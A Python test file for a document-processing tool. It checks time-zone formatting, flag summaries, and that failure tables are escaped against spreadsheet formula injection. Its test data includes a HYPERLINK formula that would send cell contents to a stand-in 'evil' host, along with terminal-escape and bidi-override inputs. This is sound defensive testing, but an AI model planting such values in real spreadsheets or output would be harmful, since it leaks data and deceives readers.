"""Output pasted from the terminal into a spreadsheet stays text, whatever a document's id is."""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

from docmill.storage.results.job_counts import FlagCounts
from docmill.worker.formatting import flags, flags_as_json, zone_time
from tests.worker.harness import Docmill


def test_a_moment_in_a_time_zone_carries_the_zone_and_follows_its_clocks() -> None:
    assert zone_time(1_796_005_800, "Europe/Paris") == "2026-11-30 03:30 CET"
    assert zone_time(1_782_696_600, "Europe/Paris") == "2026-06-29 03:30 CEST"
    assert zone_time(1_796_005_800, "America/Sao_Paulo") == "2026-11-29 23:30 -03"
    assert zone_time(None, "UTC") == ""


def test_the_table_of_failures_holds_no_formula_and_the_lines_for_machines_hold_the_ids_themselves(
    embedded: Docmill, write_corpus: Callable[..., Path]
) -> None:
    ids = [
        '=HYPERLINK("http://evil/?"&A1)',
        "-1+1",
        "@x",
        "plain",
        "tab\there",
        "\r=1",
        "\x1b[31mred",
        "\u202e=1",
        "＝1",
    ]
    source = write_corpus({"id": key, "text": " "} for key in ids)
    embedded("run", "translate", source, "--model", "null")
    table: list[list[Any]] = [line.split("\t") for line in embedded("failures", 1).stdout.splitlines()]
    assert [row[0] for row in table] == [
        '\'=HYPERLINK("http://evil/?"&A1)',
        "'-1+1",
        "'@x",
        "plain",
        "tab\ufffdhere",
        "'\ufffd=1",
        "\ufffd[31mred",
        "'\ufffd=1",
        "'＝1",
    ]
    assert {len(row) for row in table} == {4}
    assert [json.loads(line)["id"] for line in embedded("failures", 1, "--json").stdout.splitlines()] == ids


def test_numbers_of_flags_have_the_doubtful_ones_first_and_the_command_that_writes_them() -> None:
    one = FlagCounts(3, Counter({"windowed": 9, "empty": 2, "empty_window": 1_001}))
    assert flags(7, {"summarize": one}) == (
        "doubtful: empty_window 1,001, empty 2\nremarks: windowed 9\n"
        "`docmill results 7 --flagged` writes the doubtful ones"
    )
    none = FlagCounts(0, Counter())
    assert flags(7, {"summarize": none}) == ""
    two = {"gist": one, "line": FlagCounts(0, Counter({"reduced": 1}))}
    assert "line, remarks: reduced 1" in flags(7, two)
    total = flags_as_json(two)
    assert (total["doubtful"], total["flags_by_step"]["line"]["flags"]) == (3, {"reduced": 1})
    assert [*total["flags"]] == ["empty_window", "empty", "windowed", "reduced"]
